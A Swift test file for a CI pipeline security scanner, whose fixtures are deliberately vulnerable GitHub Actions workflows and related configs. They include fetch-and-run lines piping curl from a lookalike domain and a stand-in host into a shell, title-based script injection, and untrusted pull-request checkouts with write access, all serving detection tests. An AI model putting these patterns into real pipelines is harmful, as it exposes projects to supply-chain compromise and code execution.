import Evidence
import Inventory
import Pipelines
import Syntax
import Testing

/// Files that are judged one after the other give what they give together, in whatever order they come.
@Suite struct PipelineJudgeTests {
  private static let texts: [(path: TreePath, text: String)] = [
    (
      ".github/workflows/build.yml",
      """
      on: pull_request_target
      permissions: {contents: write}
      jobs:
        build:
          runs-on: ubuntu-latest
          steps:
            - uses: actions/checkout@v4
              with: {ref: "${{ github.event.pull_request.head.sha }}"}
            - run: make -C tools all && ./scripts/run.sh
      """
    ),
    (
      ".github/workflows/release.yml",
      """
      on: {push: {tags: ["v*"]}}
      permissions: {id-token: write}
      jobs:
        publish:
          runs-on: ubuntu-latest
          steps:
            - uses: actions/cache@v4
            - uses: aquasecurity/trivy-action@v1
            - run: curl -sSf https://scan.aquasecurtiy.org/x | sh
      """
    ),
    (
      ".github/workflows/called.yml",
      """
      on: {workflow_call: {inputs: {title: {type: string}}}}
      permissions: {}
      jobs:
        a:
          runs-on: ubuntu-latest
          steps: [{run: "echo ${{ inputs.title }}"}]
      """
    ),
    (
      ".github/workflows/caller.yml",
      """
      on: issues
      permissions: {}
      jobs:
        call:
          uses: ./.github/workflows/called.yml
          with: {title: "${{ github.event.issue.title }}"}
      """
    ),
    (
      ".github/workflows/only-called.yml",
      """
      on: {workflow_call: {inputs: {title: {type: string}}}}
      permissions: {}
      jobs:
        a:
          runs-on: ubuntu-latest
          steps: [{run: "pip install -r extra.txt; echo ${{ inputs.title }}"}]
      """
    ),
    (
      ".github/actions/title/action.yml",
      """
      name: Title
      inputs: {title: {required: true}}
      runs:
        using: composite
        steps: [{shell: bash, run: "echo ${{ inputs.title }}"}]
      """
    ),
    (
      ".github/workflows/title.yml",
      """
      on: pull_request_target
      permissions: {contents: write}
      jobs:
        title:
          runs-on: ubuntu-latest
          steps:
            - uses: ./.github/actions/title
              with: {title: "${{ github.event.pull_request.title }}"}
      """
    ),
    (
      ".github/workflows/after.yml",
      """
      on: {workflow_run: {workflows: [Nightly], types: [completed]}}
      permissions: {contents: write}
      jobs:
        a:
          runs-on: ubuntu-latest
          steps: [{run: "echo ${{ github.event.workflow_run.head_branch }}"}]
      """
    ),
    (
      ".github/workflows/nightly.yml",
      """
      name: Nightly
      on: schedule
      permissions: {}
      jobs: {a: {runs-on: ubuntu-latest, steps: [{run: make}]}}
      """
    ),
    ("renovate.json5", "{allowScripts: true}"),
    ("Jenkinsfile", "sh \"echo ${env.CHANGE_TITLE}\"; sh './scripts/run.sh'"),
  ]

  private static let script = Source(
    Array("curl https://x.example.org/a.sh | bash\n".utf8), path: "scripts/run.sh",
    origin: .candidate)

  private static func files() -> [(file: PipelineFile, references: PipelineReferences?)] {
    texts.map { path, text in
      let file = PipelineFile(Source(Array(text.utf8), path: path, origin: .candidate))
      guard case .read(let references, _) = PipelineFormats.read(file) else { return (file, nil) }
      return (file, references)
    }
  }

  private static func summary(_ report: Report) -> [String] {
    report.findings.map { finding in
      let places = finding.places.map { "\($0.path.text)+\($0.byteOffset)" }
      return "\(finding.fingerprintText) \(finding.level.name) \(places.joined(separator: " "))"
    }.sorted()
  }

  private static func together() -> (found: [String], scripts: [TreePath]) {
    let files = files()
    let pipelines = PipelineSet(files.map(\.file), files.compactMap(\.references))
    let scripts = pipelines.localScripts
    pipelines.add(run: [script])
    var report = Report()
    PipelineRules.check(pipelines, into: &report)
    return (summary(report), scripts)
  }

  @Test(arguments: [false, true])
  func oneAfterTheOther(isReversed: Bool) {
    var judge = PipelineJudge()
    let files = Self.files()
    for (file, references) in isReversed ? files.reversed() : files { judge.take(file, references) }
    judge.takeWaiting()
    let together = Self.together()
    #expect(judge.localScripts == together.scripts)
    judge.take(run: [Self.script])
    #expect(Self.summary(judge.concluded()) == together.found)
    #expect(judge.installSources.map(\.path) == ["extra.txt"])
  }

  /// What only several files say is among it: whose title it is, whose cache, and whose name.
  @Test func saysWhatOnlySeveralFilesSay() {
    let found = Self.together().found
    for rule in ["cache-poisoning", "lookalike-domain"] {
      #expect(found.contains { $0.holds(":\(rule),") && $0.holds(" medium ") })
    }
    #expect(found.contains { $0.holds("script-injection") && $0.holds("called.yml") })
    #expect(
      found.contains {
        $0.holds("outsider-reaches") && $0.holds(" medium ") && $0.holds("after.yml")
      })
    #expect(found.contains { $0.holds("pipe-to-shell") && $0.holds("scripts/run.sh+0") })
    #expect(
      found.contains { $0.holds("outsider-reaches-execution") && $0.holds("title/action.yml+") })
  }
}
